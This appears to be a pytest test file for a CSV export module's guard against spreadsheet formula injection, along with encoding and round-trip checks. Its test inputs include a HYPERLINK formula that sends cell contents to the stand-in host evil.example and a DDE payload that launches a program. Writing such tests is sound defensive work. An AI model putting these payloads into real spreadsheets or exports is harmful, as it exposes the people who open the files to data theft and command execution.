"""CSV export (spark/core/csv_export.py): formula injection guarded, numbers kept, files that
open cleanly in a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from spark.core import csv_export
from spark.core.csv_export import csv_bytes, safe_cell

# Formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("hostile", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("-5", "'-5"),  # text that looks like a number is still text: guarded
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\0=1", "'\0=1"),
        ("  =1+1", "'  =1+1"),  # spaces before the formula do not hide it
    ],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(hostile, written):
    assert safe_cell(hostile) == written


@pytest.mark.parametrize(
    "harmless",
    [
        "Amara Okafor",
        "Zoë Brontë-Smith",  # a hyphen inside a name is not a formula
        "£12,500",
        "Rate = 5%",  # an equals sign that is not first
        "'quoted already",
        "",
        "Line one\nline two",
    ],
)
def test_ordinary_text_is_left_alone(harmless):
    assert safe_cell(harmless) == harmless


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (-5, "-5"),
        (0, "0"),
        (12500, "12500"),
        (-12.5, "-12.5"),
        (25 / 6, "4.166666666666667"),
        (1e-07, "1e-07"),
        (Decimal("-0.75"), "-0.75"),
    ],
)
def test_numbers_stay_numbers_even_when_negative(number, written):
    assert safe_cell(number) == written


@pytest.mark.parametrize(
    ("number", "written"),
    [(float("-inf"), "'-inf"), (float("inf"), "inf"), (float("nan"), "nan")],
)
def test_a_number_that_is_not_plainly_written_is_guarded_like_text(number, written):
    assert safe_cell(number) == written


def test_none_and_true_or_false_read_as_people_would_write_them():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "Yes"
    assert safe_cell(False) == "No"


def test_other_values_are_written_as_their_text_and_guarded():
    class Hostile:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Hostile()) == "'=1+1"


# The file -----------------------------------------------------------------------------------


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_file_is_utf8_with_a_byte_order_mark_and_crlf_line_endings():
    data = csv_bytes(["Name", "Ask"], [["Zoë", "£12,500"], ["Siân", -5]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data == '\ufeffName,Ask\r\nZoë,"£12,500"\r\nSiân,-5\r\n'.encode()


def test_every_cell_goes_through_the_guard_headers_included():
    data = csv_bytes(
        ["Team", "=Score", "Mean"],
        [
            ['=HYPERLINK("https://evil.example","Click")', "+1", -12.5],
            ["@SUM(A1)", "\t=1", None],
        ],
    )
    assert read_back(data) == [
        ["Team", "'=Score", "Mean"],
        ['\'=HYPERLINK("https://evil.example","Click")', "'+1", "-12.5"],
        ["'@SUM(A1)", "'\t=1", ""],
    ]


def test_commas_quotes_and_line_breaks_survive_the_round_trip():
    rows = [['Say "hello", then go', "Line one\r\nline two"]]
    assert read_back(csv_bytes(["A", "B"], rows)) == [["A", "B"], *rows]


def test_a_file_with_no_rows_still_has_its_header():
    assert csv_bytes(["Pitch", "Outcome"], []) == b"\xef\xbb\xbfPitch,Outcome\r\n"


def test_rows_can_be_any_iterable_of_sequences():
    rows = ((name, score) for name, score in [("A", 1), ("B", 2)])
    assert read_back(csv_bytes(("Name", "Score"), rows))[1:] == [["A", "1"], ["B", "2"]]


def test_a_row_of_the_wrong_length_is_an_error():
    with pytest.raises(ValueError, match="Row 2 has 1 cells; the header has 2"):
        csv_bytes(["A", "B"], [["1", "2"], ["3"]])


def test_the_module_is_pure():
    tree = ast.parse(Path(csv_export.__file__).read_text(encoding="utf-8"))
    modules = {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    modules |= {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    }
    assert all(name.split(".")[0] in sys.stdlib_module_names for name in modules)
